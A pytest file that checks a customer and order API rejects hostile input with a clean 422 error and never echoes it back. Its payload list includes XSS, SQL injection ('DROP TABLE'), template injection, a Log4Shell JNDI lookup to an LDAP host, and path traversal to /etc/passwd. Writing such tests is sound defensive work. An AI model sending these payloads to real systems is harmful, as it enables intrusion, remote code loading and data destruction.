"""Hostile input is refused with a clear error, never a 5xx, and never repeated."""

from typing import Any

import pytest
from httpx import AsyncClient

HOSTILE = [
    "<script>alert(1)</script>",
    "Robert'); DROP TABLE customers;--",
    "{{7*7}}",
    "${jndi:ldap://example.com/a}",
    "a\x00b",
    "line\nbreak",
    "../../etc/passwd%00",
    "A" * 5000,
]


def customer(**fields: Any) -> dict[str, Any]:
    return {"email": "ada@example.com", "name": "Ada", **fields}


def order(**line: Any) -> dict[str, Any]:
    first = {"sku": "CHAIR-01", "quantity": 1, "unit_price_cents": 1, **line}
    return {"customer_id": 1, "lines": [first]}


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize(
    ("path", "field"), [("/customers", "name"), ("/customers", "email"), ("/orders", "sku")]
)
async def test_hostile_text(client: AsyncClient, path: str, field: str, text: str) -> None:
    body = order(sku=text) if field == "sku" else customer(**{field: text})
    answer = await client.post(path, json=body)
    assert answer.status_code == 422
    assert answer.json()["error"]["code"] == "invalid"
    assert answer.json()["error"]["reasons"][0]["field"].endswith(field)
    assert text not in answer.text


@pytest.mark.parametrize(
    "body",
    [
        order(quantity=0),
        order(quantity=1001),
        order(quantity=1.5),
        order(unit_price_cents=-1),
        order(unit_price_cents=10**400),
        {"customer_id": 2**31, "lines": []},
        {"customer_id": 1, "lines": []},
        {"customer_id": 1},
        [],
        None,
    ],
)
async def test_numbers_and_shapes(client: AsyncClient, body: object) -> None:
    assert (await client.post("/orders", json=body)).status_code == 422


@pytest.mark.parametrize("content", [b"", b"{", b"\xff\xfe", b"[" * 20_000, b'{"a": NaN}'])
async def test_malformed_json(client: AsyncClient, content: bytes) -> None:
    answer = await client.post(
        "/orders", content=content, headers={"Content-Type": "application/json"}
    )
    assert answer.status_code in (400, 422)


async def test_a_made_up_field_is_not_repeated(client: AsyncClient) -> None:
    answer = await client.post("/customers", json=customer(**{"<b>is_admin</b>": True}))
    assert answer.status_code == 422
    reason = {"field": "body", "reason": "extra_forbidden"}
    assert answer.json()["error"]["reasons"] == [reason]


@pytest.mark.parametrize("number", ["0", "-1", "99999999999999999999", "1e3", "<b>", "%00"])
async def test_strange_ids(client: AsyncClient, number: str) -> None:
    for path in ("/orders", "/customers"):
        answer = await client.get(f"{path}/{number}")
        assert answer.status_code == 422
        assert "<b>" not in answer.text


async def test_other_methods_are_refused(client: AsyncClient) -> None:
    answer = await client.delete("/orders/1")
    assert answer.status_code == 405
    assert answer.json()["error"]["code"] == "http-405"
